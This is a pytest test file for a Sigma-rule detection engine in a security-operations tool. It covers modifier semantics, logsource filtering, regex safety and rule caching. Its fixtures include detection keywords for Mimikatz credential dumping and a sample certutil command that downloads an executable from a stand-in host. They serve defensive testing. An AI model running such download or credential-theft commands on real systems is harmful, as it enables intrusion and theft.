"""The detection engine: Sigma semantics, logsource pre-filtering, safety against hostile input."""

from __future__ import annotations

import base64
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
import yaml

from socctl.detection.engine import Detector
from socctl.detection.event import Event
from socctl.detection.rules import RuleSet, load_rules


def write_rule(
    folder: Path, name: str, detection: str, logsource: dict[str, str] | None = None
) -> Path:
    path = folder / f"{name}.yml"
    doc = {
        "title": name,
        "status": "test",
        "level": "high",
        "logsource": logsource or {"product": "test"},
        "detection": yaml.safe_load(textwrap.dedent(detection)),
    }
    path.write_text(yaml.safe_dump(doc), encoding="utf-8")
    return path


def ruleset(tmp_path: Path, detection: str, **kwargs: Any) -> RuleSet:
    folder = tmp_path / "rules"
    folder.mkdir(exist_ok=True)
    write_rule(folder, "rule", detection, **kwargs)
    loaded = load_rules([folder], cache_dir=None, use_cache=False)
    assert not loaded.errors, loaded.errors
    return loaded


def event(kind: str = "generic", **fields: Any) -> Event:
    return Event(fields=fields, data=dict(fields), source="test", ref="1", kind=kind)  # type: ignore[arg-type]


def matches(rules: RuleSet, *events: Event) -> list[bool]:
    detector = Detector(rules)
    return [bool(detector.match_event(e)) for e in events]


@pytest.mark.parametrize(
    ("detection", "hit", "miss"),
    [
        # plain values: whole-value, case-insensitive equality
        ("sel:\n    Image: C:\\Tools\\Evil.exe", "c:\\tools\\EVIL.EXE", "c:\\tools\\evil.exe.bak"),
        ("sel:\n    CommandLine|contains: '-enc'", "powershell -ENC abc", "powershell -e abc"),
        ("sel:\n    Image|endswith: '\\cmd.exe'", "C:\\Windows\\CMD.EXE", "C:\\cmd.exe.txt"),
        ("sel:\n    Image|startswith: 'C:\\Users\\'", "c:\\users\\a\\x.exe", "D:\\Users\\x.exe"),
        # wildcards inside values
        (
            "sel:\n    Image: '*AppData*Local*.exe'",
            "C:\\u\\appdata\\Local\\x.exe",
            "C:\\AppData.exe",
        ),
        ("sel:\n    Image: 'C:\\Win?ows\\x.exe'", "c:\\windows\\x.exe", "c:\\winnnows\\x.exe"),
        ("sel:\n    Image: '\\*literal'", "*literal", "xliteral"),
        # all: every value must occur
        ("sel:\n    CommandLine|contains|all: ['-nop', 'hidden']", "x -NOP -w hidden", "x -nop"),
        # cased: case matters
        ("sel:\n    CommandLine|cased: 'Secret'", "Secret", "secret"),
        # regexes: case-sensitive unless the i flag is given
        ("sel:\n    CommandLine|re: 'ab+c$'", "xxabbbc", "xxABBBC"),
        ("sel:\n    CommandLine|re|i: '^ab+c$'", "ABBBC", "xABC"),
        ("sel:\n    CommandLine|re|s: 'a.b'", "a\nb", "ab"),
        # windash: - / and the Unicode dashes
        ("sel:\n    CommandLine|windash|contains: ' -exec '", "tool /exec x", "tool exec x"),
        # base64offset: every alignment of the encoded text
        (
            "sel:\n    CommandLine|base64offset|contains: 'http://'",
            base64.b64encode(b"xxhttp://evil").decode(),
            base64.b64encode(b"xxhttps://ok").decode(),
        ),
        (
            "sel:\n    CommandLine|wide|base64|contains: 'ping'",
            base64.b64encode("ping".encode("utf-16le")).decode(),
            base64.b64encode(b"ping").decode(),
        ),
    ],
)
def test_string_modifiers(tmp_path: Path, detection: str, hit: str, miss: str) -> None:
    field = "CommandLine" if "CommandLine" in detection else "Image"
    rules = ruleset(tmp_path, detection + "\ncondition: sel\n")
    assert matches(rules, event(**{field: hit}), event(**{field: miss})) == [True, False]


def test_numbers_match_numbers_and_numeric_strings(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "sel:\n    EventID: 4688\ncondition: sel\n")
    assert matches(
        rules, event(EventID=4688), event(EventID="4688"), event(EventID=46880), event(EventID="x")
    ) == [True, True, False, False]


def test_string_rule_value_matches_a_number_field(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "sel:\n    LogonType: '10'\ncondition: sel\n")
    assert matches(rules, event(LogonType=10), event(LogonType=3)) == [True, False]


def test_comparisons_cidr_exists_null_and_fieldref(tmp_path: Path) -> None:
    detection = """\
    big:
        Size|gte: 1000
    net:
        DestinationIp|cidr: 10.0.0.0/8
    has:
        Token|exists: true
    empty:
        Note: null
    same:
        TargetUserName|fieldref: SubjectUserName
    condition: big and net and has and empty and same
    """
    rules = ruleset(tmp_path, detection)
    good: dict[str, Any] = {
        "Size": "4096",
        "DestinationIp": "10.2.3.4",
        "Token": "",
        "TargetUserName": "Admin",
        "SubjectUserName": "admin",
    }
    assert matches(rules, event(**good)) == [True]
    changes: list[dict[str, Any]] = [
        {"Size": 999},
        {"DestinationIp": "11.0.0.1"},
        {"DestinationIp": "not an ip"},
        {"Note": "something"},
        {"SubjectUserName": "other"},
    ]
    for change in changes:
        assert matches(rules, event(**{**good, **change})) == [False], change
    assert matches(rules, event(**{k: v for k, v in good.items() if k != "Token"})) == [False]


def test_cidr_matches_ipv4_and_ipv6_addresses_only_inside_the_network(tmp_path: Path) -> None:
    detection = """\
    sel:
        - Ip|cidr: 192.168.0.0/16
        - Ip|cidr: 'fd00::/8'
    condition: sel
    """
    rules = ruleset(tmp_path, detection)
    inside = ["192.168.1.7", " 192.168.255.255 ", "fd12::1", ["8.8.8.8", "192.168.0.1"]]
    outside = [
        "192.169.0.1",
        "10.0.0.1",
        "fe80::1%eth0",
        "::ffff:192.168.1.7",
        "192.168.1",
        "",
        "01.168.1.7",
        "192.168.1.7\x00",
        3232235777,
        None,
    ]
    found = matches(rules, *(event(Ip=v) for v in inside + outside))
    assert found == [True] * len(inside) + [False] * len(outside)


def test_keywords_search_every_value(tmp_path: Path) -> None:
    rules = ruleset(
        tmp_path, "keywords:\n    - 'mimikatz'\n    - 'sekurlsa::'\ncondition: keywords\n"
    )
    assert matches(
        rules,
        event(A="x", B="run Mimikatz now"),
        event(A="x", B=["y", "SEKURLSA::logonpasswords"]),
        event(A="clean"),
    ) == [True, True, False]


def test_list_values_match_any_element(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "sel:\n    Tags|endswith: '.ps1'\ncondition: sel\n")
    assert matches(rules, event(Tags=["a.txt", "B.PS1"]), event(Tags=["a.txt"])) == [True, False]


def test_conditions_not_and_of_selectors(tmp_path: Path) -> None:
    detection = """\
    sel_a:
        A: x
    sel_b:
        B: y
    filter:
        C: z
    condition: 1 of sel_* and not filter
    """
    rules = ruleset(tmp_path, detection)
    assert matches(rules, event(A="x"), event(B="y", C="q"), event(A="x", C="z"), event(D="x")) == [
        True,
        True,
        False,
        False,
    ]


def test_pathological_regex_line_does_not_hang() -> None:
    """(a+)+$ on 50,000 a's then '!' is catastrophic for backtracking engines; RE2 is linear.

    Run in a child process with a generous limit, so a regression fails instead of hanging.
    """
    script = textwrap.dedent(
        """
        import pathlib, sys, tempfile
        from socctl.detection.engine import Detector
        from socctl.detection.event import Event
        from socctl.detection.rules import load_rules
        folder = pathlib.Path(tempfile.mkdtemp())
        (folder / "r.yml").write_text(
            "title: t\\nlogsource: {product: test}\\n"
            "detection: {sel: {Line|re: '(a+)+$'}, condition: sel}\\n"
        )
        rules = load_rules([folder], cache_dir=None, use_cache=False)
        line = "a" * 50000 + "!"
        detector = Detector(rules)
        hits = [detector.match_event(Event({"Line": line}, {}, "s", "1", "generic")) for _ in range(20)]
        print(sum(map(len, hits)))
        """
    )
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=True
    )
    assert result.stdout.strip() == "0"


def test_rules_only_see_events_of_their_logsource(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    write_rule(folder, "linux", "sel:\n    User: root\ncondition: sel\n", {"product": "linux"})
    write_rule(
        folder,
        "proc",
        "sel:\n    Image|endswith: '\\whoami.exe'\n    User: root\ncondition: sel\n",
        {"category": "process_creation", "product": "windows"},
    )
    rules = load_rules([folder], cache_dir=None, use_cache=False)
    detector = Detector(rules)

    def titles(e: Event) -> list[str]:
        return [r.rule.info.title for r in detector.match_event(e)]

    sysmon = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1}
    # process_creation is Sysmon event 1 or Security 4688 (with its own field names)
    assert titles(event("windows", **sysmon, Image="C:\\x\\whoami.exe", User="root")) == ["proc"]
    assert titles(
        event(
            "windows",
            Channel="Security",
            EventID=4688,
            NewProcessName="C:\\whoami.exe",
            User="root",
        )
    ) == ["proc"]
    # same fields, other channel or event id: not a process creation
    assert (
        titles(event("windows", **{**sysmon, "EventID": 3}, Image="\\whoami.exe", User="root"))
        == []
    )
    # a Linux rule never sees a Windows event, and the reverse
    assert titles(event("linux", User="root", Image="\\whoami.exe")) == ["linux"]


def test_image_rules_match_winlogbeat_documents(tmp_path: Path) -> None:
    """ECS documents carry process.executable, not Elasticsearch's .caseless sub-field."""
    folder = tmp_path / "rules"
    folder.mkdir()
    write_rule(
        folder,
        "certutil",
        "sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: urlcache\n"
        "condition: sel\n",
        {"category": "process_creation", "product": "windows"},
    )
    detector = Detector(load_rules([folder], cache_dir=None, use_cache=False))
    ecs = {
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
        "winlog.event_id": 1,
        "event.code": "1",
        "process.executable": "C:\\Windows\\System32\\certutil.exe",
        "process.command_line": "certutil -urlcache -f http://198.51.100.7/a.exe",
    }
    assert [m.rule.info.title for m in detector.match_event(event("ecs", **ecs))] == ["certutil"]


def test_candidate_index_never_changes_results() -> None:
    """Indexed matching (dispatch + literals) equals running every rule on every event."""
    corpus = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpus" / "sigmahq-regression"
    if not corpus.is_dir():
        pytest.skip(f"conformance corpus not found at {corpus}")
    from socctl.detection.compile import lower_view
    from socctl.detection.inputs import read_events

    rules = load_rules(sorted(corpus.glob("*/rule.yml")), cache_dir=None, use_cache=False)
    events = [e for path in sorted(corpus.glob("*/events.evtx")) for e in read_events(path)]
    detector = Detector(rules)
    index = detector.index("windows")
    assert len(index.rules) == len(rules.rules)
    for e in events:
        lower = lower_view(e.fields)
        brute = [r.rule.key for r in index.rules if r.match(e.fields, lower)]
        assert [r.rule.key for r in detector.match_event(e)] == brute


def test_bad_rules_are_listed_with_path_and_reason_and_others_still_load(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    write_rule(folder, "good", "sel:\n    A: x\ncondition: sel\n")
    write_rule(folder, "lookahead", "sel:\n    A|re: 'x(?=y)'\ncondition: sel\n")
    write_rule(folder, "modifier", "sel:\n    A|nosuchmodifier: x\ncondition: sel\n")
    write_rule(folder, "placeholder", "sel:\n    A|expand: '%admins%'\ncondition: sel\n")
    (folder / "broken.yml").write_text("title: [unclosed\n", encoding="utf-8")
    rules = load_rules([folder], cache_dir=None, use_cache=False)
    detector = Detector(rules)
    assert [r.rule.info.title for r in detector.match_event(event(A="x"))] == ["good"]
    reasons = {Path(e.path).name: e.reason for e in rules.errors}
    assert set(reasons) == {"lookahead.yml", "modifier.yml", "placeholder.yml", "broken.yml"}
    assert "RE2" in reasons["lookahead.yml"]
    assert "nosuchmodifier" in reasons["modifier.yml"]
    assert "%admins%" in reasons["placeholder.yml"]
    assert "YAML" in reasons["broken.yml"]


def test_cache_serves_unchanged_rules_without_pysigma_and_recompiles_changed(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    rule = write_rule(folder, "r", "sel:\n    A|contains: needle\ncondition: sel\n")
    cache = tmp_path / "cache"
    script = textwrap.dedent(
        f"""
        import sys
        from pathlib import Path
        from socctl.detection.engine import Detector
        from socctl.detection.event import Event
        from socctl.detection.rules import load_rules
        rules = load_rules([Path({str(folder)!r})], cache_dir=Path({str(cache)!r}))
        hit = Detector(rules).match_event(Event({{"A": sys.argv[1]}}, {{}}, "s", "1", "generic"))
        print(len(hit), any(m.startswith("sigma") for m in sys.modules))
        """
    )

    def run(value: str) -> str:
        done = subprocess.run(
            [sys.executable, "-c", script, value], capture_output=True, text=True, check=True
        )
        return done.stdout.strip()

    assert run("a needle here") == "1 True"  # cold: pySigma converts the rule
    assert run("a needle here") == "1 False"  # warm: served from the cache, no pySigma
    rule.write_text(rule.read_text().replace("needle", "pin"), encoding="utf-8")
    assert run("a needle here") == "0 True"  # changed text: converted again
    assert run("a pin here") == "1 False"


def test_a_cache_of_another_engine_version_is_removed_when_the_cache_is_written(
    tmp_path: Path,
) -> None:
    from socctl.detection.cache import CACHE_NAME

    folder = tmp_path / "rules"
    folder.mkdir()
    write_rule(folder, "r", "sel:\n    A: x\ncondition: sel\n")
    cache = tmp_path / "cache"
    cache.mkdir()
    (cache / "sigma-engine-v1.bin").write_bytes(b"old")
    (cache / f"sigma-engine-v1-{sys.implementation.cache_tag}.bin").write_bytes(b"old")
    (cache / "sigma-engine-v1-cpython-399.bin").write_bytes(b"another Python's")
    (cache / "notes.txt").write_text("mine", encoding="utf-8")
    rules = load_rules([folder], cache_dir=cache)
    assert [r.rule.info.title for r in Detector(rules).match_event(event(A="x"))] == ["r"]
    assert sorted(p.name for p in cache.iterdir()) == sorted(
        [CACHE_NAME, "sigma-engine-v1-cpython-399.bin", "notes.txt"]
    )


# Semantics found by a differential run against pySigma's SQLite backend and the Sigma spec.


def test_fieldref_contains_finds_the_other_field_anywhere_in_the_value(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "sel:\n    A|fieldref|contains: B\ncondition: sel\n")
    found = matches(
        rules,
        event(A="xx-ABC-yy", B="abc"),
        event(A="abc-yy", B="abc"),
        event(A="xx-ab-c", B="abc"),
    )
    assert found == [True, True, False]


@pytest.mark.parametrize(
    ("modifier", "number", "hit", "miss"),
    [
        ("hour", 3, "2025-10-25 03:44:33.433", "2025-10-25 13:44:33.433"),
        ("minute", 44, "2025-10-25T03:44:33Z", "2025-10-25T03:45:33Z"),
        ("day", 25, "2025-10-25 03:44:33", "2025-10-26 03:44:33"),
        ("week", 43, "2025-10-25", "2025-11-25"),
        ("month", 10, "2025-10-25T03:44:33+07:00", "2025-11-25T03:44:33+07:00"),
        ("year", 2025, 1761363873, 1700000000),  # seconds since 1970
    ],
)
def test_time_modifiers_compare_a_part_of_the_time_not_the_whole_value(
    tmp_path: Path, modifier: str, number: int, hit: Any, miss: Any
) -> None:
    rules = ruleset(tmp_path, f"sel:\n    UtcTime|{modifier}: {number}\ncondition: sel\n")
    found = matches(rules, *(event(UtcTime=v) for v in (hit, miss, str(number), "not a time")))
    assert found == [True, False, False, False]


def test_a_posix_character_class_in_a_regex_matches(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "sel:\n    CommandLine|re: '^[[:digit:]]+$'\ncondition: sel\n")
    assert matches(rules, event(CommandLine="12345"), event(CommandLine="12a45")) == [True, False]


def test_a_keyword_with_wildcards_is_found_anywhere_in_a_value(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "keywords:\n    - 'Trojan*FOUND'\n    - 'a?c'\ncondition: keywords\n")
    found = matches(
        rules,
        event(message="/tmp/eicar.com: Win.Trojan.Agent-123 FOUND"),
        event(message="x abc y"),
        event(message="FOUND Trojan"),
        event(message="ac"),
    )
    assert found == [True, True, False, False]


def test_null_means_absent_or_null_and_an_empty_string_is_not_null(tmp_path: Path) -> None:
    rules = ruleset(tmp_path, "sel:\n    Path: null\ncondition: sel\n")
    found = matches(rules, event(Path=None), event(Other="x"), event(Path=""), event(Path="C:"))
    assert found == [True, True, False, False]
